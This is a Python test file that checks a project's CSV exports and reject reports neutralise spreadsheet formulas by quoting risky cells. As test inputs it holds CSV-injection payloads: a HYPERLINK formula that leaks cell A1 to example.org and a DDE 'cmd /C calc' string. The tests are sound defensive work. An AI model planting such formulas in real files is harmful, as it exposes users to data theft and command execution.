"""Every CSV the project writes neutralises formulas (OWASP's rule) through exporting.safe_csv.

A hostile value (a title, a study label, a source's name, a rejected line) is put through each CSV
output and must come out with a single quote in front; our own exports read back to the value."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from synthesist.exporting.base import ExportItem
from synthesist.exporting.formats.csv_writer import CsvWriter
from synthesist.exporting.safe_csv import FORMULA_PREFIXES, neutralise_cell, restore_cell
from synthesist.importing.base import ParsedRecord, ReadOptions
from synthesist.importing.formats.tabular import CsvReader
from synthesist.importing.source import open_source
from synthesist.records.model import Record
from synthesist.reporting.appraisal_table import render_table
from synthesist.reporting.characteristics import CharacteristicsTable, write_table
from synthesist.reporting.prisma_csv import parse_prisma_csv, prisma_csv_text
from synthesist.services.records.imports import ImportRequest, import_files
from synthesist.synthesis.matrix import MatrixStudy, ThemeMatrix, write_matrix
from synthesist.synthesis.model import ThemeLevel
from synthesist.workspace import Workspace
from tests.reporting.appraisal_examples import reference_like_table
from tests.reporting.prisma_examples import REFERENCE

HOSTILE = '=HYPERLINK("http://example.org/?x="&A1,"click")'
SOURCE = Path(__file__).parents[2] / "src" / "synthesist"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")) for cell in row]


def _no_formula(cells: list[str]) -> None:
    risky = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not re.fullmatch(r"-?\d+", cell)]
    assert not risky


@given(
    st.text(max_size=12, alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a"]))
)
def test_the_quote_is_undone_exactly_and_no_cell_starts_a_formula(value: str) -> None:
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"[+-]?[\d.e+-]+", cell)


def test_numbers_stay_numbers_and_formulas_are_quoted() -> None:
    assert [neutralise_cell(v) for v in ("-1.5", "+2", "-3e-4", "42", None)] == [
        "-1.5",
        "+2",
        "-3e-4",
        "42",
        "",
    ]
    assert [neutralise_cell(v) for v in ("-1+2", "@SUM(A1)", "\t=1", "\r=1", "'=1", "'plain")] == [
        "'-1+2", "'@SUM(A1)", "'\t=1", "'\r=1", "''=1", "'plain",
    ]  # fmt: skip


def test_no_csv_is_written_past_the_safe_writer() -> None:
    direct = [
        f"{path.relative_to(SOURCE)}"
        for path in SOURCE.rglob("*.py")
        if path.name != "safe_csv.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text("utf-8"))
    ]
    assert direct == []


def test_records_export_quotes_a_formula_title_and_reads_it_back(tmp_path: Path) -> None:
    buffer = io.StringIO(newline="")
    CsvWriter().write([ExportItem(1, Record(title=HOSTILE, pages="-"), "Scopus", {"note": "+1-1"})], buffer)
    cells = _cells(buffer.getvalue())
    assert "'" + HOSTILE in cells and "'+1-1" in cells
    _no_formula(cells)
    path = tmp_path / "export.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    [item] = list(CsvReader().read(open_source(path), ReadOptions()))
    assert isinstance(item, ParsedRecord) and item.record.title == HOSTILE


def test_characteristics_table_csv() -> None:
    table = CharacteristicsTable(
        title="Table 1", columns=["Study", "Setting"], rows=[["@cmd", HOSTILE]], notes=[]
    )
    out = io.BytesIO()
    write_table(table, "csv", out)
    cells = _cells(out.getvalue().decode("utf-8"))
    assert {"'@cmd", "'" + HOSTILE} <= set(cells)
    _no_formula(cells)


def test_appraisal_table_csv() -> None:
    table = reference_like_table()
    group = table.groups[0]
    hostile_row = dataclasses.replace(group.rows[0], study="-2+3 Study A", ref="=S1")
    table = dataclasses.replace(
        table, groups=(dataclasses.replace(group, rows=(hostile_row, *group.rows[1:])),)
    )
    cells = _cells(render_table(table, "csv").decode("utf-8"))
    assert {"'-2+3 Study A", "'=S1"} <= set(cells)
    _no_formula(cells)


def test_theme_matrix_csv() -> None:
    matrix = ThemeMatrix(
        level=ThemeLevel.ANALYTICAL, studies=(MatrixStudy(1, "+cmd|' /C calc'!A0"),), columns=()
    )
    out = io.BytesIO()
    write_matrix(matrix, "csv", out)
    cells = _cells(out.getvalue().decode("utf-8"))
    assert "'+cmd|' /C calc'!A0" in cells
    _no_formula(cells)


def test_prisma_csv_quotes_a_source_name_and_reads_it_back() -> None:
    first, *rest = REFERENCE.other_sources
    counts = dataclasses.replace(
        REFERENCE, other_sources=(dataclasses.replace(first, name="=1+2 websites"), *rest)
    )
    text = prisma_csv_text(counts)
    cells = _cells(text)
    assert "'=1+2 websites" in cells
    _no_formula(cells)
    assert parse_prisma_csv(text) == counts


def test_the_rejects_report(workspace: Workspace, tmp_path: Path) -> None:
    hostile = HOSTILE.replace('"', '""')
    rows = "".join(f"Title {n},{2000 + n}\n" for n in range(5))
    path = tmp_path / "hostile.csv"
    path.write_text(f'Title,Year\n{rows}"{hostile}",2002,extra\n', "utf-8")
    request = ImportRequest(paths=[path], source="Scopus", format="csv", skip_invalid=True)
    [item] = import_files(workspace, request).files
    assert item.reject_report is not None and item.rejects
    cells = _cells(item.reject_report.read_text("utf-8"))
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    _no_formula(cells)
